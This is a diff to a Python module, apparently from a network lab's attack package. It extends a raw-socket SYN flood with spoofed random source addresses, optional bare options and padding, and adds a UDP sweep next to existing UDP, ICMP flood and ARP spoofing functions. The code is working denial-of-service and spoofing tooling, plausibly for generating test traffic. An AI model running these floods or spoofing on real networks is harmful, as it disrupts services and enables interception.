@@ -9,6 +9,9 @@ from random import Random
 
 from wirespeak.lab.attacks.start import Pace, start
 
+# MSS, SACK permitted, timestamps, window scale (RFC 9293, 2018, 7323)
+_OPTIONS = b"\x02\x04\x05\xb4\x04\x02\x08\x0a%b\0\0\0\0\x01\x03\x03\x07"
+
 
 def checksum(data: bytes) -> int:
     """The Internet checksum (RFC 1071)."""
@@ -19,9 +22,19 @@ def checksum(data: bytes) -> int:
 
 
 def syn_flood(
-    *, target: str, ports: list[int], rate: float, count: int, source: str, seed: int, ttl: int
+    *,
+    target: str,
+    ports: list[int],
+    rate: float,
+    count: int,
+    source: str,
+    bare: bool,
+    size: int,
+    seed: int,
+    ttl: int,
 ) -> None:
-    """SYNs with MSS, SACK, timestamp and window scale, as a real system sends. Source "" is another one each time."""
+    """SYNs with MSS, SACK, timestamp and window scale, as a real system sends, or `bare` of options, with `size`
+    bytes of data at most. Source "" is another one each time."""
     random, pace = Random(seed), Pace(rate)
     with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
         for _ in range(count):
@@ -30,9 +43,7 @@ def syn_flood(
                 if source
                 else bytes((random.choice((45, 81, 102, 144, 185, 203)), *random.randbytes(3)))
             )
-            options = (
-                b"\x02\x04\x05\xb4\x04\x02\x08\x0a" + random.randbytes(4) + bytes(4) + b"\x01\x03\x03\x07"
-            )
+            options = b"" if bare else _OPTIONS % random.randbytes(4)
             head = (
                 struct.pack(
                     ">HHIIBBHHH",
@@ -40,13 +51,14 @@ def syn_flood(
                     random.choice(ports),
                     random.getrandbits(32),
                     0,
-                    0xA0,
+                    (5 + len(options) // 4) << 4,
                     2,
                     64240,
                     0,
                     0,
                 )
                 + options
+                + random.randbytes(size)
             )
             pseudo = sender + socket.inet_aton(target) + struct.pack(">BBH", 0, 6, len(head))
             head = head[:16] + struct.pack(">H", checksum(pseudo + head)) + head[18:]
@@ -66,6 +78,15 @@ def udp_flood(*, target: str, port: int, rate: float, count: int, size: int, soc
     for number in range(count):
         opened[number % sockets].sendto(random.randbytes(size), (target, port or random.randint(1, 65535)))
         time.sleep(pace.wait_s())
+
+
+def udp_sweep(*, targets: list[str], port: int, rate: float, size: int, seed: int) -> None:
+    """One datagram of random bytes to a port of each address, in any order."""
+    random, pace = Random(seed), Pace(rate)
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as opened:
+        for target in random.sample(targets, len(targets)):
+            opened.sendto(random.randbytes(size), (target, port))
+            time.sleep(pace.wait_s())
 
 
 def icmp_flood(*, target: str, rate: float, count: int, size: int, identities: int, seed: int) -> None:
@@ -141,4 +162,4 @@ def arp_spoof(
 
 
 if __name__ == "__main__":
-    start(syn_flood, udp_flood, icmp_flood, arp_sweep, arp_spoof)
+    start(syn_flood, udp_flood, udp_sweep, icmp_flood, arp_sweep, arp_spoof)
